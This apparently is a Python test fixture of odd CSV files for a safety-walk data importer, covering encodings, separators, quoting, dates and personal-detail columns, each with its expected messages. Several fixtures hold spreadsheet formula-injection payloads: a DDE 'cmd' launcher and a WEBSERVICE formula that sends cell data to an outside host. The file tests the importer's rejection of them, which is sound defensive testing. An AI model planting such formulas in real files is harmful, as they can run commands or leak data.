"""Odd CSV files: encodings, separators, quotes, layouts, and what people write in their cells."""

# ruff: noqa: E501  a message stands in one line, as it is said

from __future__ import annotations

from typing import Final

from tests.corpus import NOT_ALL, SOUND, TWO, UNKNOWN, OddFile

PLAIN = "request_id,received_on,borough\nR-1,2022-02-01,Havering\nR-2,2022-02-13,Redbridge\n"
DATES = "request_id,received_on,borough\nR-1,{},Havering\nR-2,{},Redbridge\n"
ANSWERS = "answer_id,walk_id,respondent,feeling,factors\n"
WIDE = (
    "Questionnaire ID,Walk,Who,How safe,Poor lighting,No CCTV,Being followed,More patrols\n"
    "A-1,W-01,participant,very unsafe,Y,N,Y,Y\nA-2,W-01,officer,fairly safe,N,N,N,N\nA-3,W-01,official,very safe,,,,\n"
)
HERS = (
    "Ref,Date rec'd,Name,Email,Boro,Ward,Location of concern,Day/Night,Progress,Updated\n"
    "R-1,03/12/2021,Jane Smith,jane@example.org,Hav,Rainham,York Road,night,booked,05/12/2021\n"
    "R-2,14/12/2021,Ann Brown,ann@example.org,B&D,Abbey,the station,both,cancelled,16/12/2021\n"
)

TEXTS: Final[dict[str, OddFile]] = {
    "utf_8_with_mark": OddFile("\ufeff" + PLAIN, rows=TWO),
    "utf_16_with_mark": OddFile(PLAIN.encode("utf-16"), rows=TWO),
    "utf_16_big_end_without_mark": OddFile(PLAIN.encode("utf-16-be"), rows=TWO),
    "windows_1252": OddFile(
        "request_id,received_on,borough,place\nR-1,2022-02-01,Havering,Café – bar\n".encode("cp1252"),
        rows=((2, {"request_id": "R-1", "received_on": "2022-02-01", "borough": "Havering", "place": "Café – bar"}),),
        notices=("week.csv was read as Windows-1252, since it is not saved as UTF-8. Look whether its accents are right.",),
    ),
    "windows_1252_and_utf_8": OddFile(
        "request_id,received_on,borough,place\nR-1,2022-02-01,Havering,Café\n".encode() + b"R-2,,,\xe9\n",
        notices=(NOT_ALL,),
        problems=(
            'week.csv row 3 has a letter that is not saved as UTF-8 (the file may be Windows-1252). In Excel choose File, Save as, "CSV UTF-8 (comma delimited)".',
        ),
    ),
    "undefined_byte": OddFile(
        PLAIN.encode() + b"R-3,2022-02-01,Hav\x81ering\n",
        notices=(NOT_ALL,),
        problems=(
            'week.csv row 4 has a letter that is not saved as UTF-8 (the file may be Windows-1252). In Excel choose File, Save as, "CSV UTF-8 (comma delimited)".',
        ),
    ),
    "semicolons": OddFile(
        PLAIN.replace(",", ";"), rows=TWO, notices=("week.csv is separated by semicolons, not by commas, and was read so.",)
    ),
    "tabs": OddFile(
        PLAIN.replace(",", "\t"),
        name="week.tsv",
        rows=TWO,
        notices=("week.tsv is separated by tabs, not by commas, and was read so.",),
    ),
    "upright_bars": OddFile(
        PLAIN.replace(",", "|"),
        name="week.txt",
        rows=TWO,
        notices=("week.txt is separated by upright bars, not by commas, and was read so.",),
    ),
    "sep_line": OddFile(
        "sep=;\r\n" + PLAIN.replace(",", ";"),
        rows=TWO,
        notices=("week.csv is separated by semicolons, not by commas, and was read so.",),
    ),
    "sep_line_that_lies": OddFile(
        "sep=;\n" + PLAIN,
        notices=(
            "week.csv is separated by semicolons, not by commas, and was read so.",
            NOT_ALL,
        ),
        problems=("week.csv has no row of headings. Put the names of the columns over them, one to a cell.",),
    ),
    "semicolons_with_decimal_commas": OddFile(
        "walk_id;kind;started_at;minutes;borough;latitude;longitude\nW-1;safety walk;2022-02-28 19:00;30;Havering;51,5644;0,2211\n",
        notices=("week.csv is separated by semicolons, not by commas, and was read so.",),
        problems=(
            'week.csv row 2, latitude: "51,5644" is not a number of degrees. Write it as 51.5644.',
            'week.csv row 2, longitude: "0,2211" is not a number of degrees. Write it as 0.2211.',
        ),
    ),
    "carriage_returns_alone": OddFile(PLAIN.replace("\n", "\r"), rows=TWO),
    "mixed_line_ends": OddFile(PLAIN.replace("\n", "\r\n", 1), rows=TWO),
    "nul_bytes": OddFile(
        PLAIN + "R-3,2022-02-01,Hav\x00ering\n",
        notices=(NOT_ALL,),
        problems=(
            "week.csv row 4 has characters that belong in no text (NUL): the file is damaged. Save it again from the spreadsheet.",
        ),
    ),
    "empty": OddFile(
        "", notices=(NOT_ALL,), problems=("week.csv is empty. Save the spreadsheet again, with its headings in row 1.",)
    ),
    "blank_lines_alone": OddFile(
        "\n,,\n \n", notices=(NOT_ALL,), problems=("week.csv is empty. Save the spreadsheet again, with its headings in row 1.",)
    ),
    "headings_alone": OddFile(
        "request_id,received_on,borough\n",
        problems=("week.csv has headings and no rows. Fill in the rows, or leave the file out.",),
    ),
    "no_headings": OddFile(
        "R-1,Jane Smith,2022-02-01,Havering\nR-2,Ann Brown,2022-02-13,Redbridge\n",
        notices=(NOT_ALL,),
        problems=(f"week.csv {UNKNOWN}",),
    ),
    "quotes_in_quotes": OddFile(
        'request_id,received_on,borough,place\nR-1,2022-02-01,Havering,"by ""the"" park, ""there"""\n',
        rows=((2, {"request_id": "R-1", "received_on": "2022-02-01", "borough": "Havering", "place": 'by "the" park, "there"'}),),
    ),
    "sixty_four_quotes": OddFile(
        f'request_id,received_on,borough,place\nR-1,2022-02-01,Havering,"{chr(34) * 2**6}"\nR-2,2022-02-13,Redbridge,\n',
        rows=(
            (
                2,
                {
                    "request_id": "R-1",
                    "received_on": "2022-02-01",
                    "borough": "Havering",
                    "place": '""""""""""""""""""""""""""""""""',
                },
            ),
            (3, {"request_id": "R-2", "received_on": "2022-02-13", "borough": "Redbridge"}),
        ),
    ),
    "quote_not_closed": OddFile(
        PLAIN + 'R-3,2022-02-01,"Havering\n',
        notices=(NOT_ALL,),
        problems=(
            'week.csv row 4 has a quote (") that is not closed, or a quote inside a text. Write a quote inside a text twice (""), and put the whole text in quotes.',
        ),
    ),
    "quote_inside_a_text": OddFile(
        'request_id,received_on,borough,place\nR-1,2022-02-01,Havering,"the "dark" way"\n',
        notices=(NOT_ALL,),
        problems=(
            'week.csv row 2 has a quote (") that is not closed, or a quote inside a text. Write a quote inside a text twice (""), and put the whole text in quotes.',
        ),
    ),
    "line_breaks_in_cells": OddFile(
        'request_id,received_on,borough,place\nR-1,2022-02-01,Havering,"by\r\nthe\npark"\nR-2,2022-02-13,Redbridge,\n',
        rows=(
            (2, {"request_id": "R-1", "received_on": "2022-02-01", "borough": "Havering", "place": "by\nthe\npark"}),
            (3, {"request_id": "R-2", "received_on": "2022-02-13", "borough": "Redbridge"}),
        ),
    ),
    "comma_in_a_text_without_quotes": OddFile(
        "request_id,received_on,borough,place\nR-1,2022-02-01,Havering,the park, north\n",
        problems=(
            "week.csv row 2 has a value in column E, which has no heading. Give the column a heading; or, if a text in the row has a comma in it, put that text in quotes.",
        ),
    ),
    "spaces_and_no_break_spaces": OddFile(PLAIN.replace("Havering", "\u00a0 Havering \t").replace("R-1", " R-1\u00a0"), rows=TWO),
    "zero_width_characters": OddFile(PLAIN.replace("Havering", "\u200bHaver\u00ading\ufeff"), rows=TWO),
    "combining_letters": OddFile(
        "request_id,received_on,borough,place\nR-1,2022-02-01,Havering,Cafe\u0301\n",
        rows=((2, {"request_id": "R-1", "received_on": "2022-02-01", "borough": "Havering", "place": "Café"}),),
    ),
    "title_rows": OddFile(
        "Requests for walks,,\nas at Monday,,\n\n" + PLAIN,
        rows=(
            (5, {"request_id": "R-1", "received_on": "2022-02-01", "borough": "Havering"}),
            (6, {"request_id": "R-2", "received_on": "2022-02-13", "borough": "Redbridge"}),
        ),
        notices=("week.csv has its headings in row 4: rows 1 and 2 above them were left out.",),
    ),
    "totals_and_notes": OddFile(
        PLAIN + "Total,2,\n\nSource: the mailbox,,\n",
        rows=TWO,
        notices=(
            "week.csv has totals in row 4, which was left out.",
            "week.csv has a single value after a blank row in row 6, which was left out.",
        ),
    ),
    "headings_on_each_page": OddFile(
        PLAIN + PLAIN.replace("R-1", "R-3").replace("R-2", "R-4"),
        rows=(
            (2, {"request_id": "R-1", "received_on": "2022-02-01", "borough": "Havering"}),
            (3, {"request_id": "R-2", "received_on": "2022-02-13", "borough": "Redbridge"}),
            (5, {"request_id": "R-3", "received_on": "2022-02-01", "borough": "Havering"}),
            (6, {"request_id": "R-4", "received_on": "2022-02-13", "borough": "Redbridge"}),
        ),
        notices=("week.csv repeats its headings in row 4, which was left out.",),
    ),
    "heading_twice": OddFile(
        "request_id,received_on,borough,Borough\nR-1,2022-02-01,Havering,Redbridge\n",
        rows=SOUND,
        notices=("week.csv: left out, for no such column is known: Borough.",),
        problems=('week.csv has the column "borough" more than once: C and D. Keep the one that is right.',),
    ),
    "two_tables": OddFile(
        PLAIN + "\nrequest_id,status,status_on\nR-01,completed,2022-02-01\n",
        rows=(
            (2, {"request_id": "R-1", "received_on": "2022-02-01", "borough": "Havering"}),
            (3, {"request_id": "R-2", "received_on": "2022-02-13", "borough": "Redbridge"}),
            (6, {"request_id": "R-01", "status_on": "2022-02-01", "status": "completed"}),
        ),
    ),
    "side_by_side": OddFile(
        "request_id,received_on,borough,,request_id,status,status_on\n"
        "R-1,2022-02-01,Havering,,R-01,completed,2022-02-01\nR-2,2022-02-13,Redbridge,,,,\n",
        rows=(
            (2, {"request_id": "R-1", "received_on": "2022-02-01", "borough": "Havering"}),
            (3, {"request_id": "R-2", "received_on": "2022-02-13", "borough": "Redbridge"}),
            (2, {"request_id": "R-01", "status_on": "2022-02-01", "status": "completed"}),
        ),
    ),
    "ambiguous_dates": OddFile(
        DATES.format("03/04/2022", "05/06/2022"),
        questions=("week.csv: in received_on (03/04/2022, 05/06/2022), is the date read day first or month first?",),
    ),
    "dates_that_decide_for_day_first": OddFile(DATES.format("01/02/2022", "13/02/2022"), rows=TWO),
    "dates_that_decide_for_month_first": OddFile(DATES.format("02/01/2022", "02/13/2022"), rows=TWO),
    "contradicting_dates": OddFile(
        DATES.format("13/02/2022", "02/13/2022"),
        questions=("week.csv: in received_on, is the date read day first or month first?",),
    ),
    "two_digit_years": OddFile(DATES.format("1.2.22", "13.2.22"), rows=TWO),
    "dates_in_words": OddFile(DATES.format("Tue 1 Feb 2022", "13th of February 2022"), rows=TWO),
    "wrong_weekday": OddFile(
        DATES.format("Mon 1 Feb 2022", "13 Feb 2022"),
        rows=((3, {"request_id": "R-2", "received_on": "2022-02-13", "borough": "Redbridge"}),),
        problems=("week.csv row 2, received_on: is not a date. Write it as 2022-02-28.",),
    ),
    "no_such_day": OddFile(
        DATES.format("2022-02-30", "29/02/2022"),
        problems=(
            'week.csv row 2, received_on: "2022-02-30" is not a date. Write it as 2022-02-28.',
            'week.csv row 3, received_on: "29/02/2022" is not a date. Write it as 2022-02-28.',
        ),
    ),
    "serial_dates_in_a_text": OddFile(
        DATES.format("44593", "44605"),
        questions=("week.csv: in received_on (44593, 44605), is the date read days since 1900 or days since 1904?",),
    ),
    "a_date_of_tomorrow": OddFile(
        DATES.format("2999-01-01", "1999-12-31"),
        problems=(
            'week.csv row 2, received_on: "2999-01-01" is after today, 2022-12-01. Check the date.',
            'week.csv row 3, received_on: "1999-12-31" is before 2000. Check the year.',
        ),
    ),
    "wide_form": OddFile(
        WIDE,
        rows=(
            (
                2,
                {
                    "answer_id": "A-1",
                    "walk_id": "W-01",
                    "respondent": "participant",
                    "feeling": "very unsafe",
                    "factors": ("lighting", "followed"),
                    "ideas": ("patrols",),
                },
            ),
            (
                3,
                {
                    "answer_id": "A-2",
                    "walk_id": "W-01",
                    "respondent": "officer",
                    "feeling": "fairly safe",
                    "factors": ("none",),
                    "ideas": ("none",),
                },
            ),
            (4, {"answer_id": "A-3", "walk_id": "W-01", "respondent": "official", "feeling": "very safe"}),
        ),
        questions=(
            'week.csv: is "Questionnaire ID" the column answer_id?',
            'week.csv: is "Walk" the column walk_id?',
            'week.csv: is "Who" the column respondent?',
            'week.csv: is "How safe" the column feeling?',
            'week.csv: is "Poor lighting" the answer lighting of factors?',
            'week.csv: is "No CCTV" the answer cctv of factors?',
            'week.csv: is "Being followed" the answer followed of factors?',
            'week.csv: is "More patrols" the answer patrols of ideas?',
        ),
    ),
    "her_headings": OddFile(
        HERS,
        rows=(
            (
                2,
                {
                    "request_id": "R-1",
                    "received_on": "2021-12-03",
                    "borough": "Havering",
                    "ward": "Rainham & Wennington",
                    "place": "York Road",
                    "worried_about": "dark",
                },
            ),
            (
                3,
                {
                    "request_id": "R-2",
                    "received_on": "2021-12-14",
                    "borough": "Barking and Dagenham",
                    "ward": "Abbey",
                    "place": "the station",
                    "worried_about": "both",
                },
            ),
        ),
        notices=("week.csv: left out and not stored, for they look like personal details: Name, Email.",),
        questions=(
            'week.csv: is "Ref" the column request_id?',
            'week.csv: is "Date rec\'d" the column received_on?',
            'week.csv: is "Boro" the column borough?',
            'week.csv: is "Location of concern" the column place?',
            'week.csv: is "Day/Night" the column worried_about?',
            'week.csv: is "Progress" the column status?',
            'week.csv: is "Updated" the column status_on?',
            'week.csv: in worried_about, does "night" mean dark?',
            'week.csv: in status, does "booked" mean arranged?',
            'week.csv: in status, does "cancelled" mean withdrawn?',
            'week.csv: in borough, does "Hav" mean Havering?',
            'week.csv: in ward, does "Rainham" mean Rainham & Wennington?',
            'week.csv: in borough, does "B&D" mean Barking and Dagenham?',
        ),
    ),
    "personal_columns": OddFile(
        "request_id,Name,Mobile no.,DOB,received_on,borough\nR-1,Jane Smith,07700 900123,1.1.90,2022-02-01,Havering\n",
        rows=SOUND,
        notices=("week.csv: left out and not stored, for they look like personal details: Name, Mobile no., DOB.",),
    ),
    "personal_details_in_a_place": OddFile(
        "request_id,received_on,borough,place\nR-1,2022-02-01,Havering,ask jane.smith@example.org or 07700 900123\n",
        rows=(
            (
                2,
                {
                    "request_id": "R-1",
                    "received_on": "2022-02-01",
                    "borough": "Havering",
                    "place": "ask jane.smith@example.org or 07700 900123",
                },
            ),
        ),
        details=((2, "place", ("email", "telephone number")),),
    ),
    "report_given_back": OddFile(
        "request_id,received_on,borough,What is wrong\nR-1,2022-02-01,Havering,borough: is blank.\n,,,request_id: is blank.\n"
        "R-2,2022-02-13,Redbridge,\n",
        rows=(
            (2, {"request_id": "R-1", "received_on": "2022-02-01", "borough": "Havering"}),
            (4, {"request_id": "R-2", "received_on": "2022-02-13", "borough": "Redbridge"}),
        ),
    ),
    "formulas": OddFile(
        PLAIN.replace("2022-02-01", "=TODAY()").replace("Redbridge", "=A1"),
        problems=(
            "week.csv row 2, received_on: is a formula. Put its value there instead (copy, then paste as values).",
            "week.csv row 3, borough: is a formula. Put its value there instead (copy, then paste as values).",
        ),
    ),
    "dde": OddFile(
        "request_id,received_on,borough,place\nR-1,2022-02-01,Havering,=cmd|' /C calc'!A0\n",
        problems=("week.csv row 2, place: is a formula. Put its value there instead (copy, then paste as values).",),
    ),
    "formulas_that_begin_otherwise": OddFile(
        "request_id,received_on,borough,place\nR-1,2022-02-01,Havering,+cmd|' /C calc'!A0\nR-2,2022-02-13,Redbridge,@SUM(1)\n",
        rows=(
            (2, {"request_id": "R-1", "received_on": "2022-02-01", "borough": "Havering", "place": "+cmd|' /C calc'!A0"}),
            (3, {"request_id": "R-2", "received_on": "2022-02-13", "borough": "Redbridge", "place": "@SUM(1)"}),
        ),
        details=((3, "place", ("web address or handle",)),),
    ),
    "a_formula_that_calls_out": OddFile(
        'request_id,received_on,borough,place\nR-1,2022-02-01,Havering,"=WEBSERVICE(""http://example.org/?""&A2)"\n',
        problems=("week.csv row 2, place: is a formula. Put its value there instead (copy, then paste as values).",),
    ),
    "errors_of_a_spreadsheet": OddFile(
        PLAIN.replace("2022-02-01", "#REF!").replace("Redbridge", "#N/A"),
        problems=(
            "week.csv row 2, received_on: shows the error #REF!. Write the value itself, or leave the cell empty.",
            "week.csv row 3, borough: shows the error #N/A. Write the value itself, or leave the cell empty.",
        ),
    ),
    "misspelt_words": OddFile(
        PLAIN.replace("Havering", "Haverring"), rows=TWO, questions=('week.csv: in borough, does "Haverring" mean Havering?',)
    ),
    "codes_with_commas": OddFile(
        ANSWERS + 'A-1,W-01,participant,very unsafe,"lighting, cctv"\n',
        rows=(
            (
                2,
                {
                    "answer_id": "A-1",
                    "walk_id": "W-01",
                    "respondent": "participant",
                    "feeling": "very unsafe",
                    "factors": ("lighting", "cctv"),
                },
            ),
        ),
    ),
    "numbers_with_points": OddFile(
        "answer_id,walk_id,respondent,feeling,factors,trust_before\nA-1,W-01,participant,,,3.0\nA-2,W-01,participant,,,3.5\n",
        rows=((2, {"answer_id": "A-1", "walk_id": "W-01", "respondent": "participant", "trust_before": 3}),),
        problems=('week.csv row 3, trust_before: "3.5" is not a whole number. Write a number from 1 to 5, without words.',),
    ),
    "a_web_page": OddFile(
        "<html><table><tr><td>request_id</td></tr></table></html>",
        notices=(NOT_ALL,),
        problems=(
            'week.csv is a web page (HTML or XML), though its name ends in .csv. Open it in Excel and save it as "CSV UTF-8 (comma delimited)".',
        ),
    ),
    "a_pdf": OddFile(
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj",
        notices=(NOT_ALL,),
        problems=("week.csv is a PDF document, though its name ends in .csv. Give the spreadsheet that it was made from.",),
    ),
    "a_picture": OddFile(
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
        notices=(NOT_ALL,),
        problems=("week.csv is a picture, though its name ends in .csv. Give the spreadsheet that it shows.",),
    ),
    "a_column_of_sixteen_thousand": OddFile(
        "request_id,received_on,borough"
        + "," * 16_380
        + "\nR-1,2022-02-01,Havering"
        + "," * 16_380
        + "x\nR-2,2022-02-13,Redbridge\n",
        rows=((3, {"request_id": "R-2", "received_on": "2022-02-13", "borough": "Redbridge"}),),
        problems=(
            "week.csv row 2 has a value in column XFC, which has no heading. Give the column a heading; or, if a text in the row has a comma in it, put that text in quotes.",
        ),
    ),
    "a_cell_of_a_megabyte": OddFile(
        "request_id,received_on,borough,place\nR-1,2022-02-01,Havering," + "a" * 1_000_000,
        notices=(NOT_ALL,),
        problems=(
            'week.csv row 2 has a cell of more than 131,072 letters, or a quote (") that is not closed. Write a quote inside a text twice (""), and put the whole text in quotes.',
        ),
    ),
}
